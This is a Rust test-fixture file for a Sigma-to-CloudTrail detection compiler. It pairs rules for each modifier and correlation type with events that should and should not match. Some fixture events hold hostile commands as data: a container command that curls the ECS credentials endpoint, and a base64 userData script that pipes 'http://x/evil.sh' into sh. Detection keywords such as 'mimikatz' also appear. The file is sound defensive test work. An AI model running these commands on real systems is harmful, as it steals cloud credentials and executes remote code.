//! The compiler's test cases: one Sigma rule per modifier and condition form, one per
//! correlation type, each with events that must fire and near misses that must not
//! (`tests/detect.rs` runs them; `tests/sigma_agreement.rs` runs them through pySigma too).

use std::collections::{BTreeMap, BTreeSet};

use serde_json::{Value, json};

pub const TIME: &str = "2024-05-01T10:00:00Z";

/// A case: searches (YAML under `detection:`), the condition over them, and events.
struct Case {
    name: &'static str,
    searches: &'static str,
    condition: &'static str,
    fire: Vec<Value>,
    miss: Vec<Value>,
}

fn case(
    name: &'static str,
    searches: &'static str,
    condition: &'static str,
    fire: Vec<Value>,
    miss: Vec<Value>,
) -> Case {
    Case {
        name,
        searches,
        condition,
        fire,
        miss,
    }
}

fn cases() -> Vec<Case> {
    let ua = |s: &str| json!({"userAgent": s});
    let name = |s: &str| json!({"eventName": s});
    let params = |v: Value| json!({"requestParameters": v});
    vec![
        case(
            "equals_ignores_case",
            "sel:\n  eventName: stoplogging",
            "sel",
            vec![name("StopLogging")],
            vec![name("StartLogging")],
        ),
        case(
            "list_is_or",
            "sel:\n  eventName: [DeleteTrail, StopLogging]",
            "sel",
            vec![name("StopLogging")],
            vec![name("UpdateTrail")],
        ),
        case(
            "wildcards",
            "sel:\n  eventName: 'Get*Pol?cy'",
            "sel",
            vec![name("GetBucketPolicy")],
            vec![name("GetBucketPolicies"), name("GetPlcy")],
        ),
        case(
            "escaped_wildcard_is_literal",
            "sel:\n  userAgent: 'literal\\*star'",
            "sel",
            vec![ua("literal*star")],
            vec![ua("literalXstar")],
        ),
        case(
            "sql_like_characters_are_literal",
            "sel:\n  userAgent|contains: '50%_off'",
            "sel",
            vec![ua("x 50%_off y")],
            vec![ua("x 50a_off y"), ua("50%Xoff")],
        ),
        case(
            "contains",
            "sel:\n  userAgent|contains: boto3",
            "sel",
            vec![ua("Boto3/1.34 Python")],
            vec![ua("aws-cli/2")],
        ),
        case(
            "startswith",
            "sel:\n  sourceIPAddress|startswith: '10.'",
            "sel",
            vec![json!({"sourceIPAddress": "10.1.2.3"})],
            vec![json!({"sourceIPAddress": "110.1.2.3"})],
        ),
        case(
            "endswith",
            "sel:\n  userIdentity.arn|endswith: ':root'",
            "sel",
            vec![
                json!({"userIdentity": {"type": "Root", "arn": "arn:aws:iam::111122223333:root"}}),
            ],
            vec![
                json!({"userIdentity": {"type": "IAMUser", "arn": "arn:aws:iam::111122223333:user/rootless"}}),
            ],
        ),
        case(
            "contains_all",
            "sel:\n  userAgent|contains|all: [aws-cli, linux]",
            "sel",
            vec![ua("aws-cli/2 Linux/5")],
            vec![ua("aws-cli/2 Windows/10")],
        ),
        case(
            "regex_is_case_sensitive",
            "sel:\n  userAgent|re: '^aws-cli/2\\.[0-9]+'",
            "sel",
            vec![ua("aws-cli/2.15 x")],
            vec![ua("AWS-CLI/2.15 x")],
        ),
        case(
            "regex_i",
            "sel:\n  userAgent|re|i: '^aws-cli/2'",
            "sel",
            vec![ua("AWS-CLI/2.1")],
            vec![ua("xaws-cli/2")],
        ),
        case(
            "regex_m",
            "sel:\n  errorMessage|re|m: '^denied$'",
            "sel",
            vec![json!({"errorMessage": "first\ndenied\nlast"})],
            vec![json!({"errorMessage": "first denied"})],
        ),
        case(
            "regex_s",
            "sel:\n  errorMessage|re|s: '^begin.end$'",
            "sel",
            vec![json!({"errorMessage": "begin\nend"})],
            vec![json!({"errorMessage": "begin\n\nend"})],
        ),
        case(
            "cidr_ipv4",
            "sel:\n  sourceIPAddress|cidr: 10.0.0.0/8",
            "sel",
            vec![json!({"sourceIPAddress": "10.200.1.1"})],
            vec![
                json!({"sourceIPAddress": "11.0.0.1"}),
                json!({"sourceIPAddress": "AWS Internal"}),
            ],
        ),
        case(
            "cidr_ipv6",
            "sel:\n  sourceIPAddress|cidr: '2001:db8::/32'",
            "sel",
            vec![json!({"sourceIPAddress": "2001:db8::1"})],
            vec![json!({"sourceIPAddress": "2001:db9::1"})],
        ),
        case(
            "exists_true",
            "sel:\n  requestParameters.userData|exists: true",
            "sel",
            vec![params(json!({"userData": "x"}))],
            vec![
                params(json!({"other": 1})),
                params(json!({"userData": null})),
            ],
        ),
        case(
            "exists_false",
            "sel:\n  errorCode|exists: false",
            "sel",
            vec![json!({})],
            vec![json!({"errorCode": "AccessDenied"})],
        ),
        case(
            "null_is_absent_or_null",
            "sel:\n  requestParameters.x: null",
            "sel",
            vec![params(json!({"x": null})), params(json!({"y": 1}))],
            vec![params(json!({"x": 1}))],
        ),
        case(
            "json_boolean_against_text",
            "sel:\n  requestParameters.publiclyAccessible: 'true'",
            "sel",
            vec![params(json!({"publiclyAccessible": true}))],
            vec![params(json!({"publiclyAccessible": false}))],
        ),
        case(
            "number_against_json_number_and_text",
            "sel:\n  requestParameters.port: 22",
            "sel",
            vec![params(json!({"port": 22})), params(json!({"port": "22"}))],
            vec![params(json!({"port": 2222}))],
        ),
        case(
            "any_element_of_nested_arrays",
            "sel:\n  requestParameters.containerDefinitions.command|contains: '$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI'",
            "sel",
            vec![params(
                json!({"containerDefinitions": [{"command": ["true"]}, {"command": ["sh", "-c", "curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"]}]}),
            )],
            vec![params(
                json!({"containerDefinitions": [{"command": ["sh", "-c", "echo hi"]}]}),
            )],
        ),
        case(
            "whole_object",
            "sel:\n  requestParameters|contains: 'AdministratorAccess'",
            "sel",
            vec![params(
                json!({"policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}),
            )],
            vec![params(
                json!({"policyArn": "arn:aws:iam::aws:policy/ReadOnlyAccess"}),
            )],
        ),
        case(
            "nested_struct_field",
            "sel:\n  userIdentity.sessionContext.sessionIssuer.type: Role",
            "sel",
            vec![
                json!({"userIdentity": {"type": "AssumedRole", "sessionContext": {"sessionIssuer": {"type": "Role"}}}}),
            ],
            vec![
                json!({"userIdentity": {"type": "AssumedRole", "sessionContext": {"sessionIssuer": {"type": "User"}}}}),
            ],
        ),
        case(
            "unknown_top_level_field",
            "sel:\n  someNewField: present",
            "sel",
            vec![json!({"someNewField": "present"})],
            vec![json!({"someNewField": "absent"})],
        ),
        case(
            "unknown_nested_field",
            "sel:\n  userIdentity.sessionContext.assumedRoot: 'true'",
            "sel",
            vec![
                json!({"userIdentity": {"type": "AssumedRole", "sessionContext": {"assumedRoot": "true"}}}),
            ],
            vec![
                json!({"userIdentity": {"type": "AssumedRole", "sessionContext": {"assumedRoot": "false"}}}),
            ],
        ),
        case(
            "base64",
            "sel:\n  requestParameters.userData|base64: 'curl evil'",
            "sel",
            vec![params(json!({"userData": "Y3VybCBldmls"}))],
            vec![params(json!({"userData": "aGFybWxlc3M="}))],
        ),
        case(
            "base64offset_contains",
            "sel:\n  requestParameters.userData|base64offset|contains: 'evil.sh'",
            "sel",
            vec![params(
                json!({"userData": "IyEvYmluL3NoCmN1cmwgLXMgaHR0cDovL3gvZXZpbC5zaHxzaA=="}),
            )],
            vec![params(json!({"userData": "aGFybWxlc3M="}))],
        ),
        case(
            "windash_contains",
            "sel:\n  userAgent|windash|contains: ' -enc '",
            "sel",
            vec![ua("tool /enc abc"), ua("tool \u{2013}enc abc")],
            vec![ua("tool xenc abc")],
        ),
        case(
            "fieldref",
            "sel:\n  userIdentity.userName|fieldref: requestParameters.userName",
            "sel",
            vec![
                json!({"userIdentity": {"type": "IAMUser", "userName": "Alice"}, "requestParameters": {"userName": "alice"}}),
            ],
            vec![
                json!({"userIdentity": {"type": "IAMUser", "userName": "alice"}, "requestParameters": {"userName": "bob"}}),
            ],
        ),
        case(
            "neq",
            "sel:\n  errorCode|neq: AccessDenied",
            "sel",
            vec![json!({"errorCode": "Throttling"}), json!({})],
            vec![json!({"errorCode": "accessdenied"})],
        ),
        case(
            "gte",
            "sel:\n  requestParameters.maxCount|gte: 10",
            "sel",
            vec![
                params(json!({"maxCount": 10})),
                params(json!({"maxCount": 11.5})),
            ],
            vec![params(json!({"maxCount": 9}))],
        ),
        case(
            "lt",
            "sel:\n  requestParameters.maxCount|lt: 3",
            "sel",
            vec![params(json!({"maxCount": 2}))],
            vec![params(json!({"maxCount": 3}))],
        ),
        case(
            "cased",
            "sel:\n  eventName|cased: StopLogging",
            "sel",
            vec![name("StopLogging")],
            vec![name("stoplogging")],
        ),
        case(
            "keywords_anywhere",
            "keywords:\n  - mimikatz",
            "keywords",
            vec![ua("Mimikatz-helper/1")],
            vec![ua("aws-cli/2")],
        ),
        case(
            "not_keeps_events_without_the_field",
            "sel:\n  eventName: RunInstances\nfilter:\n  userAgent|contains: console",
            "sel and not filter",
            vec![json!({"eventName": "RunInstances", "userAgent": null})],
            vec![json!({"eventName": "RunInstances", "userAgent": "console.amazonaws.com"})],
        ),
        case(
            "one_of_pattern",
            "sel_a:\n  eventName: A\nsel_b:\n  eventName: B\nfilter:\n  eventName: C",
            "1 of sel_*",
            vec![name("B")],
            vec![name("C")],
        ),
        case(
            "all_of_pattern",
            "sel_name:\n  eventName: A\nsel_agent:\n  userAgent|contains: x",
            "all of sel_*",
            vec![json!({"eventName": "A", "userAgent": "x"})],
            vec![json!({"eventName": "A", "userAgent": "y"})],
        ),
        case(
            "one_of_them",
            "a:\n  eventName: A\nb:\n  eventName: B",
            "1 of them",
            vec![name("A"), name("B")],
            vec![name("C")],
        ),
        case(
            "all_of_them",
            "a:\n  eventName: A\nb:\n  userAgent: x",
            "all of them",
            vec![json!({"eventName": "A", "userAgent": "x"})],
            vec![json!({"eventName": "A", "userAgent": "y"})],
        ),
        case(
            "precedence_and_parentheses",
            "a:\n  eventName: A\nb:\n  eventName: B\nc:\n  userAgent: x",
            "(a or b) and c",
            vec![json!({"eventName": "B", "userAgent": "x"})],
            vec![json!({"eventName": "A", "userAgent": "y"})],
        ),
        case(
            "list_of_maps_is_or_of_ands",
            "sel:\n  - eventName: A\n    userAgent: x\n  - eventName: B",
            "sel",
            vec![name("B"), json!({"eventName": "A", "userAgent": "x"})],
            vec![json!({"eventName": "A", "userAgent": "y"})],
        ),
    ]
}

pub fn indent(text: &str, by: usize) -> String {
    text.lines()
        .map(|l| format!("{}{l}\n", " ".repeat(by)))
        .collect()
}

/// A case rule's id: a UUID (as Sigma requires) made from the case's name.
pub fn case_id(name: &str) -> String {
    use sha2::Digest;
    let h = hex::encode(sha2::Sha256::digest(name.as_bytes()));
    format!(
        "{}-{}-4{}-8{}-{}",
        &h[0..8],
        &h[8..12],
        &h[13..16],
        &h[17..20],
        &h[20..32]
    )
}

fn rule_text(c: &Case) -> String {
    format!(
        "title: case {name}\nid: {id}\nstatus: test\nauthor: trailscope tests\nlevel: medium\nlogsource:\n  product: aws\n  service: cloudtrail\ndetection:\n  _case:\n    eventSource: {name}.test\n{searches}  condition: _case and ({condition})\n",
        name = c.name,
        id = case_id(c.name),
        searches = indent(c.searches, 2),
        condition = c.condition,
    )
}

/// A correlation case: its name, the whole rule file, and (event, fires?) with their own times.
type CorrelationCase = (&'static str, String, Vec<(Value, bool)>);

pub fn correlation_cases() -> Vec<CorrelationCase> {
    let base = |name: &str, source: &str, event: &str| {
        let id = case_id(&format!("base-{name}"));
        format!(
            "title: base {name}\nid: {id}\nname: {name}\nstatus: test\nauthor: trailscope tests\nlogsource:\n  product: aws\n  service: cloudtrail\ndetection:\n  sel:\n    eventSource: {source}.test\n    eventName: {event}\n  condition: sel\n"
        )
    };
    let correlation = |name: &str, body: &str| {
        format!(
            "---\ntitle: correlation {name}\nid: {}\nstatus: test\nauthor: trailscope tests\nlevel: high\ncorrelation:\n{}",
            case_id(name),
            indent(body, 2)
        )
    };
    let ev = |source: &str, name: &str, arn: &str, minute: u32, ip: &str| {
        json!({"eventSource": format!("{source}.test"), "eventName": name, "eventTime": format!("2024-05-02T10:{minute:02}:00Z"),
               "sourceIPAddress": ip,
               "userIdentity": {"type": "IAMUser", "arn": arn, "userName": "u"}})
    };
    let (a1, a2) = ("arn:aws:iam::1:user/one", "arn:aws:iam::1:user/two");
    vec![
        (
            "event_count",
            base("ec_read", "event_count", "Read")
                + &correlation("event_count", "type: event_count\nrules: [ec_read]\ngroup-by: [userIdentity.arn]\ntimespan: 10m\ncondition:\n  gte: 3"),
            vec![
                (ev("event_count", "Read", a1, 1, "1.1.1.1"), true),
                (ev("event_count", "Read", a1, 4, "1.1.1.1"), true),
                (ev("event_count", "Read", a1, 9, "1.1.1.1"), true),
                // Same principal, too far apart; other principal, too few.
                (ev("event_count", "Read", a1, 30, "1.1.1.1"), false),
                (ev("event_count", "Read", a1, 45, "1.1.1.1"), false),
                (ev("event_count", "Read", a2, 2, "1.1.1.1"), false),
                (ev("event_count", "Read", a2, 3, "1.1.1.1"), false),
            ],
        ),
        (
            // A window across two ten-minute buckets (10:10 is an edge): still one burst, and
            // events only a bucket pair away are not pulled in.
            "event_count_across_buckets",
            base("ecb_read", "event_count_across_buckets", "Read")
                + &correlation("event_count_across_buckets", "type: event_count\nrules: [ecb_read]\ngroup-by: [userIdentity.arn]\ntimespan: 10m\ncondition:\n  gte: 3"),
            vec![
                (ev("event_count_across_buckets", "Read", a1, 7, "1.1.1.1"), true),
                (ev("event_count_across_buckets", "Read", a1, 11, "1.1.1.1"), true),
                (ev("event_count_across_buckets", "Read", a1, 16, "1.1.1.1"), true),
                (ev("event_count_across_buckets", "Read", a1, 28, "1.1.1.1"), false),
                (ev("event_count_across_buckets", "Read", a1, 39, "1.1.1.1"), false),
            ],
        ),
        (
            "value_count",
            base("vc_any", "value_count", "'*'")
                + &correlation("value_count", "type: value_count\nrules: [vc_any]\ngroup-by: [userIdentity.arn]\ntimespan: 10m\ncondition:\n  field: eventName\n  gte: 3"),
            vec![
                (ev("value_count", "ListA", a1, 1, "1.1.1.1"), true),
                (ev("value_count", "ListB", a1, 2, "1.1.1.1"), true),
                (ev("value_count", "ListB", a1, 3, "1.1.1.1"), true),
                (ev("value_count", "ListC", a1, 5, "1.1.1.1"), true),
                // Many events, two names.
                (ev("value_count", "ListA", a2, 1, "1.1.1.1"), false),
                (ev("value_count", "ListB", a2, 2, "1.1.1.1"), false),
                (ev("value_count", "ListA", a2, 3, "1.1.1.1"), false),
                (ev("value_count", "ListB", a2, 4, "1.1.1.1"), false),
            ],
        ),
        (
            "temporal",
            base("t_key", "temporal", "CreateAccessKey")
                + "---\n"
                + &base("t_stop", "temporal", "StopLogging")
                + &correlation("temporal", "type: temporal\nrules: [t_key, t_stop]\ngroup-by: [userIdentity.arn]\ntimespan: 15m"),
            vec![
                (ev("temporal", "StopLogging", a1, 1, "1.1.1.1"), true),
                (ev("temporal", "CreateAccessKey", a1, 10, "1.1.1.1"), true),
                // The two halves by different principals.
                (ev("temporal", "CreateAccessKey", a2, 30, "1.1.1.1"), false),
                (ev("temporal", "StopLogging", "arn:aws:iam::1:user/three", 31, "1.1.1.1"), false),
            ],
        ),
        (
            "temporal_ordered",
            base("o_first", "temporal_ordered", "First")
                + "---\n"
                + &base("o_second", "temporal_ordered", "Second")
                + "---\n"
                + &base("o_third", "temporal_ordered", "Third")
                + &correlation("temporal_ordered", "type: temporal_ordered\nrules: [o_first, o_second, o_third]\ngroup-by: [userIdentity.arn]\ntimespan: 10m"),
            vec![
                (ev("temporal_ordered", "First", a1, 1, "1.1.1.1"), true),
                (ev("temporal_ordered", "Second", a1, 3, "1.1.1.1"), true),
                (ev("temporal_ordered", "Third", a1, 5, "1.1.1.1"), true),
                // All three, out of order.
                (ev("temporal_ordered", "First", a2, 1, "1.1.1.1"), false),
                (ev("temporal_ordered", "Third", a2, 2, "1.1.1.1"), false),
                (ev("temporal_ordered", "Second", a2, 3, "1.1.1.1"), false),
            ],
        ),
        (
            "aggregation_count_by",
            "title: correlation aggregation_count_by\nid: ID\nstatus: test\nauthor: trailscope tests\nlogsource:\n  product: aws\n  service: cloudtrail\ndetection:\n  sel:\n    eventSource: aggregation_count_by.test\n  timeframe: 10m\n  condition: sel | count() by sourceIPAddress > 2\n".replace("ID", &case_id("aggregation_count_by")),
            vec![
                (ev("aggregation_count_by", "X", a1, 1, "9.9.9.9"), true),
                (ev("aggregation_count_by", "Y", a2, 2, "9.9.9.9"), true),
                (ev("aggregation_count_by", "Z", a1, 3, "9.9.9.9"), true),
                (ev("aggregation_count_by", "X", a1, 1, "8.8.8.8"), false),
                (ev("aggregation_count_by", "X", a1, 2, "8.8.8.8"), false),
            ],
        ),
        (
            "two_group_fields",
            base("g_read", "two_group_fields", "Read")
                + &correlation("two_group_fields", "type: event_count\nrules: [g_read]\ngroup-by: [userIdentity.arn, sourceIPAddress]\ntimespan: 10m\ncondition:\n  gte: 2"),
            vec![
                (ev("two_group_fields", "Read", a1, 1, "1.1.1.1"), true),
                (ev("two_group_fields", "Read", a1, 2, "1.1.1.1"), true),
                (ev("two_group_fields", "Read", a1, 3, "2.2.2.2"), false),
            ],
        ),
    ]
}

/// Every case's events (each with its eventID), rule files (name, text), and the events each
/// rule must hit, by rule id.
pub struct Corpus {
    pub events: Vec<Value>,
    pub files: Vec<(String, String)>,
    pub expected: BTreeMap<String, BTreeSet<String>>,
}

pub fn corpus() -> Corpus {
    let mut events = Vec::new();
    let mut files = Vec::new();
    let mut expected: BTreeMap<String, BTreeSet<String>> = BTreeMap::new();
    for c in cases() {
        for (fires, list) in [(true, &c.fire), (false, &c.miss)] {
            for (i, e) in list.iter().enumerate() {
                let id = format!("{}-{}-{i}", if fires { "fire" } else { "miss" }, c.name);
                let mut e = e.as_object().cloned().unwrap();
                e.insert("eventID".into(), id.clone().into());
                e.entry("eventSource")
                    .or_insert(format!("{}.test", c.name).into());
                e.entry("eventName").or_insert("Other".into());
                e.entry("eventTime").or_insert(TIME.into());
                events.push(Value::Object(e));
                if fires {
                    expected.entry(case_id(c.name)).or_default().insert(id);
                }
            }
        }
        files.push((format!("{}.yml", c.name), rule_text(&c)));
    }
    for (name, text, list) in correlation_cases() {
        for (i, (e, fires)) in list.into_iter().enumerate() {
            let id = format!("{}-{name}-{i}", if fires { "fire" } else { "miss" });
            let mut e = e.as_object().cloned().unwrap();
            e.insert("eventID".into(), id.clone().into());
            events.push(Value::Object(e));
            if fires {
                expected.entry(case_id(name)).or_default().insert(id);
            }
        }
        files.push((format!("{name}.yml"), text));
    }
    Corpus {
        events,
        files,
        expected,
    }
}
